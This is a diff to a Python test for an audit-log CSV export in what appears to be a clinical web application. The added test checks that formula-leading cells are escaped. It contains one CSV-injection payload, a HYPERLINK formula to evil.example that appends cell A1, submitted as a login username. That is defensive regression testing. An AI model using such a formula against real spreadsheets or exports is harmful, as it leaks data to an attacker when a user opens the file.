@@ -300,6 +300,9 @@ def test_audit_viewer_shows_before_and_after_finds_a_patient_and_exports_csv(api
     mine_id, other_id = mine.json()["id"], other.json()["id"]
     api.client.get(f"/api/v1/studies/{mine_id}")
     api.client.get(f"/api/v1/studies/{other_id}")
+    # anybody's failed login is a row naming what they typed: a spreadsheet formula (CSV injection)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    api.client.post("/api/v1/session", json={"username": formula, "password": "x"})
     headers = api.login("admin.t")
     changed = api.client.put("/api/v1/users/biller.t/role", json={"role": "technician"}, headers=headers)
     assert changed.is_success
@@ -323,6 +326,11 @@ def test_audit_viewer_shows_before_and_after_finds_a_patient_and_exports_csv(api
     assert exported.actor == "admin.t"
     assert json.loads(exported.after_json) == {"patient": "MRN-A1", "rows": len(table), "format": "csv"}
     assert api.client.get("/admin/audit.csv", params={"since": "soon"}).status_code in (409, 422)
+    # Until 2026-12-07 written as typed: the administrator's spreadsheet ran it. A cell starting with = + - @
+    # (or a tab or CR) is written with a leading ' (OWASP CSV injection), shown as text, not run.
+    refused = api.client.get("/admin/audit.csv", params={"action": "auth:refused"}).text
+    (row,) = [r for r in csv.DictReader(io.StringIO(refused)) if "HYPERLINK" in r["actor"]]
+    assert row["actor"] == "'" + formula and row["entity_id"] == "'" + formula[:40], row
     api.login("dr.t")
     assert api.client.get("/admin/audit.csv").status_code == 403
 
